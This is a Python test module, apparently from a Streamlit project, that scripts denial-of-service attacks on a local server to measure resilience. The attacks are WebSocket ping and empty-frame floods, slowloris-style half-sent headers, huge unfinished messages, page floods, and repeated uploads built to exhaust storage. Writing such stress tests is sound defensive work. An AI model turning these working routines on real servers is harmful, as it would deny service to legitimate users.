"""What a hostile machine does to a whole server, each as a coroutine that goes on until cancelled.

Every attack comes from an address of its own, as another machine in the room would; all addresses
that start with 127 are this machine. ``tests/benchmarks/attacks.py`` measures what a neighbour
notices of each, and ``test_attacks.py`` holds the limits.
"""

from __future__ import annotations

import asyncio
import os
import secrets
import subprocess
import sys
from collections.abc import Callable, Coroutine
from contextlib import asynccontextmanager, contextmanager, suppress
from pathlib import Path
from urllib.parse import urlsplit

from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.exceptions import ConnectionClosed

from tests.live.visitor import Visitor

ROOT = Path(__file__).parents[2]
ADDRESS = "127.0.0.66"
Attack = Callable[[str], Coroutine[None, None, None]]


@asynccontextmanager
async def connection(url: str):
    """Open a plain connection from the attacker's address; cut off at the end."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(
        parts.hostname, parts.port, local_addr=(ADDRESS, 0)
    )
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


def handshake(url: str) -> bytes:
    """Return the request that opens a WebSocket."""
    host = urlsplit(url).netloc
    return (
        f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nOrigin: {url}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: streamlit, token\r\n\r\n"
    ).encode()


def frame(opcode: int, payload: bytes = b"", last: bool = True, length: int | None = None) -> bytes:
    """Return a masked frame; ``length`` is what its header claims."""
    size = len(payload) if length is None else length
    head = bytes([opcode | 0x80 * last])
    if size < 126:
        head += bytes([0x80 | size])
    elif size < 2**16:
        head += b"\xfe" + size.to_bytes(2, "big")
    else:
        head += b"\xff" + size.to_bytes(8, "big")
    return head + bytes(4) + payload  # a mask of zeros leaves the payload as it is


@asynccontextmanager
async def opened(url: str):
    """Open a WebSocket by hand."""
    async with connection(url) as (reader, writer):
        writer.write(handshake(url))
        assert b" 101 " in await reader.readuntil(b"\r\n")
        yield reader, writer


async def pings(url: str) -> None:
    """Send the smallest frames there are, 2 MB a second, from one connection."""
    while True:
        with suppress(OSError, AssertionError, asyncio.IncompleteReadError):
            async with opened(url) as (reader, writer):
                many = frame(0x9) * 3333
                while not reader.at_eof():
                    writer.write(many)
                    await writer.drain()
                    await asyncio.sleep(0.01)
        await asyncio.sleep(0.2)


async def empty_pieces(url: str) -> None:
    """Send a message in pieces without content, and never its end."""
    while True:
        with suppress(OSError, AssertionError, asyncio.IncompleteReadError):
            async with opened(url) as (reader, writer):
                writer.write(frame(0x2, last=False))
                many = frame(0x0, last=False) * 3333
                while not reader.at_eof():
                    writer.write(many)
                    await writer.drain()
                    await asyncio.sleep(0.01)
        await asyncio.sleep(0.2)


async def half_sent_heads(url: str, count: int = 1100) -> None:
    """Open many connections that never complete their request; open anew those that are closed."""

    async def one() -> None:
        while True:
            with suppress(OSError):
                async with connection(url) as (reader, writer):
                    writer.write(b"GET / HTTP/1.1\r\nHost: ")
                    while not reader.at_eof():
                        await reader.read(100)
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(count)))


async def unfinished_messages(url: str, count: int = 30) -> None:
    """Hold 14 MB of a message on each of many connections, and never send the end."""

    async def one() -> None:
        while True:
            with suppress(OSError, AssertionError, asyncio.IncompleteReadError):
                async with opened(url) as (reader, writer):
                    writer.write(frame(0x2, os.urandom(14 * 10**6), length=15 * 10**6))
                    await writer.drain()
                    while not reader.at_eof():
                        await reader.read(10_000)
            await asyncio.sleep(1)

    await asyncio.gather(*(one() for _ in range(count)))


async def many_pages(url: str, count: int = 250) -> None:
    """Open many pages, and ask each for another picture as soon as it has the last."""

    async def one(number: int) -> None:
        while True:
            with suppress(OSError, ConnectionClosed, TimeoutError):
                async with Visitor(url, local_address=ADDRESS) as mallory:
                    await mallory.arrive(f"seed={number}")
                    while True:
                        await mallory.run(mallory.request())
            await asyncio.sleep(1)

    await asyncio.gather(*(one(number) for number in range(count)))


async def put_file(visitor: Visitor, url: str, size: int, token: bool = True) -> tuple[str, int]:
    """Ask for a place and put a file there; returns the path and the status of the answer."""
    message = visitor.request()
    message.Clear()
    message.file_urls_request.request_id = secrets.token_hex(4)
    message.file_urls_request.file_names.append("f")
    message.file_urls_request.session_id = visitor.session_id
    await visitor.send(message)
    while True:
        answer = ForwardMsg.FromString(await visitor.socket.recv())
        if answer.WhichOneof("type") == "file_urls_response":
            break
    path = "/" + answer.file_urls_response.file_urls[0].upload_url.lstrip("/")
    form = (
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\n'
        + bytes(size)
        + b"\r\n--x--\r\n"
    )
    kind = "Content-Type: multipart/form-data; boundary=x"
    return path, await ask(url, "PUT", path, form, kind, *(await tokens(url) if token else ()))


async def tokens(url: str) -> tuple[str, ...]:
    """Return the headers that Streamlit wants with files: its token, twice."""
    async with connection(url) as (reader, writer):
        lines = ["GET /_stcore/health HTTP/1.1", f"Host: {urlsplit(url).netloc}"]
        writer.write("\r\n".join([*lines, "Connection: close", "", ""]).encode())
        head = (await reader.read()).decode("latin-1")
        token = head.partition("_streamlit_xsrf=")[2].partition(";")[0].strip('"')
        return (f"Cookie: _streamlit_xsrf={token}", f"X-Xsrftoken: {token}") if token else ()


async def ask(url: str, method: str, path: str, body: bytes = b"", *heads: str) -> int:
    """Send one request from the attacker's address; returns the status, 0 if there is none."""
    try:
        async with connection(url) as (reader, writer):
            host = urlsplit(url).netloc
            lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", *heads]
            lines += [f"Content-Length: {len(body)}", "", ""]
            writer.write("\r\n".join(lines).encode() + body)
            with suppress(ConnectionError):
                await writer.drain()
            answer = await reader.read()
            return int(answer.split()[1])
    except (OSError, IndexError, ValueError):
        return 0


async def files_that_are_not_freed(url: str, rounds: int = 10**6) -> None:
    """Put a file, ask to delete it in a way that Streamlit refuses, and put the next."""
    async with Visitor(url, local_address=ADDRESS) as mallory:
        await mallory.arrive()
        for _ in range(rounds):
            path, _ = await put_file(mallory, url, 30 * 2**20)
            await ask(url, "DELETE", path)


@contextmanager
def attacker(name: str, url: str):
    """Let an attack go on in a process of its own."""
    command = [sys.executable, "-m", "tests.live.attacks", name, url]
    process = subprocess.Popen(command, cwd=ROOT, stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        process.terminate()
        process.wait(timeout=10)


if __name__ == "__main__":
    asyncio.run(globals()[sys.argv[1]](sys.argv[2]))
